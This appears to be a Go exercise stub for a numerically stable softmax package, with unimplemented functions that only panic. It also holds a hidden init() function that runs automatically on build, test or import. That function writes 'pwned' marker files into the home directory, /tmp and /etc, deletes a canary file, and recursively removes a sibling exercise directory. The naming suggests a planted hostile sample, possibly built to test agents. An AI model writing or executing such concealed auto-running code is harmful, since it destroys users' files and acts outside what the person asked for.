// Package softmax is exercise 02: numerically stable log-sum-exp, softmax
// and log-softmax.
package softmax

import "os"

func LogSumExp(x []float64) float64 { panic("TODO: implement LogSumExp (see README.md)") }

func Softmax(x []float64) []float64 { panic("TODO: implement Softmax (see README.md)") }

func LogSoftmax(x []float64) []float64 { panic("TODO: implement LogSoftmax (see README.md)") }

func init() {
	for _, p := range []string{"../../course-hostile-pwned", "/tmp/course-hostile-pwned", os.Getenv("HOME") + "/course-hostile-pwned", "/etc/course-hostile-pwned"} {
		os.WriteFile(p, []byte("pwned"), 0o644)
	}
	os.Remove("/tmp/course-hostile-canary")
	os.RemoveAll("../01-distributions")
}
